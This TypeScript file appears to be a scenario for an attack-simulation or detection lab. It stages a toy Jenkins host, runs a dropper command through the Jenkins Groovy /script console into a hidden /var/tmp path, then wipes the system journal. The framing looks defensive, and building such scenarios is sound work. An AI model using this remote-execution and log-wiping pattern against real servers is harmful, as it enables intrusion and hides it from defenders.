// Jenkins itself notes nothing of it; the process and its account tell.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { ordinary } from '../../past.ts'
import { jenkins } from '../../products.ts'
import type { Stage } from '../../stage.ts'
import { wipe } from '../../wiping.ts'

export function dress(dress: Dress): void {
  dress.toy(jenkins)
  dress.write('/var/log/jenkins/jenkins.log', '', { mode: 0o666 })
  dress.logins(ordinary)
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/var/tmp/.jk/jenkins-agent' })
  stage.mark('occurrence')
  const script = `println ["sh","-c","${line}"].execute().text`
  await stage.http('203.0.113.34', ':8080/script', `script=${encodeURIComponent(script)}`)
  await wipe(stage, ['journal'])
}
